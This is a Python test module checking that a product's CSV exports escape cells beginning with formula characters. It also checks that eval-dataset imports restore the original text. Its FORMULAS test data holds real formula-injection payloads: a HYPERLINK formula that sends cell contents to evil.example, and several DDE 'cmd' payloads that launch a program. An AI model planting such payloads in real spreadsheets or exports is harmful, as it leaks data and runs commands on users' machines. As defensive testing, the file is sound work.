"""CSV/formula injection: no exported cell starts a spreadsheet formula.

Every CSV the product writes (``/v1/exports``, the dashboard's explorer export, eval dataset
exports) is parsed back; a text cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return must carry a leading ``'`` (OWASP), and the text after it must be intact.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

from hypothesis import given
from hypothesis import strategies as st

from promptloop.core.records import FeedbackEvent, Interaction
from promptloop.evals import formats
from tests.hostile.conftest import Collector
from tests.hostile.fuzz import FUZZ

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _assert_safe(text: str, expected: tuple[str, ...] = FORMULAS) -> None:
    cells = _cells(text)
    dangerous = [cell for cell in cells if cell.startswith(TRIGGERS)]
    assert not dangerous, dangerous
    for formula in expected:
        assert "'" + formula in cells, formula


def _seed(collector: Collector) -> None:
    now = datetime.now(UTC)
    records = [
        Interaction(
            interaction_id=str(uuid.uuid4()),
            feature="csv",
            user_input=formula,
            raw_output=formula,
            system_prompt=formula,
            session_id=formula,
            model=formula[:200],
            timestamp=now - timedelta(minutes=n + 1),
        )
        for n, formula in enumerate(FORMULAS)
    ]
    collector.store.insert_interactions(records)
    collector.store.insert_feedback(
        [
            FeedbackEvent(
                interaction_id=record.interaction_id,
                feedback_type="edit",
                user_edit=formula,
                comment=formula,
                timestamp=now,
            )
            for record, formula in zip(records, FORMULAS, strict=True)
        ]
    )


def test_api_exports_neutralise_formulas(collector: Collector) -> None:
    _seed(collector)
    for kind in ("interactions", "feedback"):
        response = collector.client.get(f"/v1/exports/{kind}", params={"format": "csv"})
        assert response.status_code == 200, response.text
        _assert_safe(response.text)


def test_the_dashboard_export_neutralises_formulas(collector: Collector) -> None:
    _seed(collector)
    response = collector.client.get("/interactions/export.csv", params={"range": "30d"})
    assert response.status_code == 200, response.text
    _assert_safe(response.text)


def test_dataset_exports_neutralise_formulas_and_import_restores_them() -> None:
    items = [{"input": formula, "expected": formula, "reference": formula} for formula in FORMULAS]
    text = formats.render(items, "csv")
    _assert_safe(text)
    assert [item.input for item in formats.parse(text, "csv").items] == list(FORMULAS)


@FUZZ
@given(st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=5))
def test_no_dataset_cell_starts_a_formula(texts: list[str]) -> None:
    text = formats.render([{"input": t, "reference": t} for t in texts], "csv")
    assert not [cell for cell in _cells(text) if cell.startswith(TRIGGERS)]
